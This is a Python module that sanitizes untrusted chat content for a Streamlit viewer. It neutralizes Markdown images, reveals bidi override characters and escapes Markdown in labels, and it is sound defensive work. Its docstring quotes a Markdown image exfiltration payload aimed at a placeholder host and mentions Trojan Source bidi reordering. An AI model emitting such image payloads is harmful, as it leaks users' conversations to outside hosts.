"""Message content is untrusted: pure functions that make it safe to show (no streamlit here).

Content comes from users, providers (a hostile provider or gateway), imported files and compare runs. Two
things about it must never happen in a viewer's browser:

- **It must not make the browser load anything.** A Markdown image ``![x](http://host/p.png?d=<text>)`` is
  fetched by every viewer with no click, so a provider could exfiltrate the conversation through it.
  ``safe_markdown`` breaks every image form (inline, reference, collapsed, shortcut) by putting a zero-width
  space between ``!`` and ``[``: what is left is a plain link that loads nothing unless clicked. It does this
  everywhere, code included, rather than parse Markdown: a wrong guess about what is code would leave an image
  live, while the break is invisible inside code. Raw HTML (``<img>``) is escaped by ``st.markdown`` as long as
  ``unsafe_allow_html`` stays off (the browser test checks both).
- **It must not lie about what it says.** Bidi override and isolate characters (U+202A–U+202E, U+2066–U+2069)
  reorder what is displayed ("Trojan Source"), so ``reveal_bidi`` replaces each with a visible marker such as
  ``⟪U+202E⟫`` in titles and messages, rendered or raw.

Everything else that reaches Markdown (model names, error messages, response ids, notes, labels, table cells)
is not meant to be formatted at all: ``markdown_literal`` turns it into Markdown that shows exactly its text,
on one line, and can form no image, link, HTML, code span, math or heading. Every caption, alert, metric or
widget label, tooltip and ``st.table`` cell built from a stored or user-supplied value goes through it.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterable

# Long messages are collapsed after this many characters (a 200k-character paste is ~40,000 px tall).
PREVIEW_CHARS = 2_000
# How far back from the limit preview() looks for a line or word break, so it does not cut a word in half.
_BREAK_WINDOW = 200

_BIDI_CONTROLS = re.compile("[\u202a-\u202e\u2066-\u2069]")
_IMAGE_START = "!["
_BROKEN_IMAGE_START = "!\u200b["  # "!" + zero-width space + "[": never an image, looks the same
# An image with empty alt text would become a link with no text, i.e. invisible: give it a visible label.
_EMPTY_ALT = re.compile(re.escape(_BROKEN_IMAGE_START) + r"\]")
_WHITESPACE = re.compile(r"\s+")
# Every ASCII punctuation character that starts or ends a Markdown construct (CommonMark, GFM, Streamlit's
# math and ``:colour[...]`` directives). CommonMark lets any of them be backslash-escaped, and an escaped
# character is always literal text, so with all of them escaped no construct can open.
_MARKDOWN_PUNCTUATION = re.compile(r"([\\`*_{}\[\]()#+\-.!|$<>~&=:])")
# GFM also turns bare "http://x", "www.x" and "a@b.c" into links, after escapes are resolved (remark finds
# them in the parsed text), so a word joiner (U+2060, invisible) is put where those patterns need adjacency.
_WORD_JOINER = "\u2060"
_AUTOLINK_PARTS = re.compile(r"(?i)(?<=:)(?=//)|(?<=www)(?=\.)|(?<=@)")


def reveal_bidi(text: str) -> str:
    """``text`` with every bidi override/isolate character replaced by a visible ``⟪U+XXXX⟫`` marker."""
    return _BIDI_CONTROLS.sub(lambda m: f"⟪U+{ord(m.group()):04X}⟫", text)


def has_bidi_controls(text: str) -> bool:
    """True when ``text`` holds a character that ``reveal_bidi`` would mark."""
    return _BIDI_CONTROLS.search(text) is not None


def safe_markdown(text: str) -> str:
    """Markdown that renders like ``text`` but loads no remote resource and shows bidi controls.

    Pass the result to ``st.markdown`` with ``unsafe_allow_html`` left False (the default).
    """
    text = reveal_bidi(text).replace(_IMAGE_START, _BROKEN_IMAGE_START)
    return _EMPTY_ALT.sub(_BROKEN_IMAGE_START + "image]", text)


def safe_title(text: object, *, limit: int | None = 80) -> str:
    """A one-line label (session titles, table cells): bidi revealed, whitespace collapsed, cut to ``limit``
    characters (``None``: never cut)."""
    line = _WHITESPACE.sub(" ", reveal_bidi(content_text(text))).strip()
    return line if limit is None or len(line) <= limit else line[: max(limit - 1, 0)].rstrip() + "…"


def markdown_literal(value: object, *, limit: int | None = None) -> str:
    """Markdown that shows ``value`` as literal text on one line: for any stored or user-supplied value
    placed in a caption, alert, metric or widget label, tooltip or ``st.table`` cell.

    Newlines and runs of whitespace become one space (a newline would end a code span or start a block),
    bidi controls are revealed, and every punctuation character that Markdown or HTML could read is escaped,
    so ``![m](http://host/p.png)`` shows as those characters and loads nothing. ``limit`` cuts as
    ``safe_title`` does. Interpolate the result into app-written Markdown; never wrap it in backticks (a
    code span would show the escapes).
    """
    line = _AUTOLINK_PARTS.sub(_WORD_JOINER, safe_title(value, limit=limit))
    return _MARKDOWN_PUNCTUATION.sub(r"\\\1", line)


def preview(text: str, limit: int = PREVIEW_CHARS) -> tuple[str, bool]:
    """The first ``limit`` characters of ``text`` (cut at a line or word break when one is near), and
    whether anything was cut."""
    if len(text) <= limit:
        return text, False
    head = text[:limit]
    for separator in ("\n", " "):
        at = head.rfind(separator, max(limit - _BREAK_WINDOW, 0))
        if at > 0:
            return head[:at].rstrip(), True
    return head, True


def content_text(content: object) -> str:
    """Any stored ``content`` as text: a string as it is, ``None`` as empty, anything else (a list of parts,
    or whatever a crafted import put there) as indented JSON. Never raises."""
    if isinstance(content, str):
        return content
    if content is None:
        return ""
    try:
        return json.dumps(content, ensure_ascii=False, indent=2, default=repr)
    except (TypeError, ValueError, RecursionError):  # a circular or absurdly deep structure
        return f"<unreadable {type(content).__name__}>"


MINUS = "\u2212"  # the typographic minus: every signed figure the pages show uses it, never a hyphen


def signed(value: float, spec: str = ",") -> str:
    """``value`` with its sign, "+" or "−" (U+2212), formatted by ``spec``; zero has no sign ("0", not "−0")."""
    text = format(abs(value), spec)
    if float(text.replace(",", "").rstrip("%") or 0) == 0:
        return text
    return ("+" if value > 0 else MINUS) + text


def turns_text(turns: Iterable[int]) -> str:
    """Turn numbers in words, runs joined: (1, 2, 3, 5) -> "turns 1–3, 5"; (4,) -> "turn 4"; () -> "no turns"."""
    ordered = sorted(set(turns))
    if not ordered:
        return "no turns"
    runs: list[list[int]] = []
    for turn in ordered:
        if runs and turn == runs[-1][1] + 1:
            runs[-1][1] = turn
        else:
            runs.append([turn, turn])
    text = ", ".join(str(a) if a == b else f"{a}–{b}" for a, b in runs)
    return f"turn {text}" if len(ordered) == 1 else f"turns {text}"
